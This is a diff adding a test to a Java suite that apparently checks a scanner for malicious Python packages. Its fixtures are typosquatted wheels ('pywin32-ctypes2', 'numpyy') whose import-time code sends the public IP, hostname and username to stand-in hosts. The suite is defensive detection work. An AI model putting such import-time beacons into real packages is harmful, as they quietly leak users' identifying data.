@@ -119,6 +119,16 @@ class PythonImportTimeReplicasTest {
     }
 
     @Test
+    void publicAddressLookedUpThenPostedFromAWindowsOnlyBranch() throws Exception {
+      wheel(tmp, "pywin32-ctypes2", "pywin32_ctypes2/__init__.py", """
+          import sys, requests
+          if sys.platform.startswith("win"):
+              ip = requests.get("https://api.ipify.org").text
+              requests.post("https://c.example.invalid/r", data={"ip": ip})
+          """).isStopped(Trigger.IMPORT_TIME, Capability.NETWORK, Capability.ENVIRONMENT_READ);
+    }
+
+    @Test
     void minifiedOneLineBeaconWithAliasedImports() throws Exception {
       wheel(tmp, "numpyy", "numpyy/__init__.py",
           "import socket as s,urllib.request as r,getpass as g;r.urlopen('http://b.example.invalid/?'+s.gethostname()+g.getuser())\n")
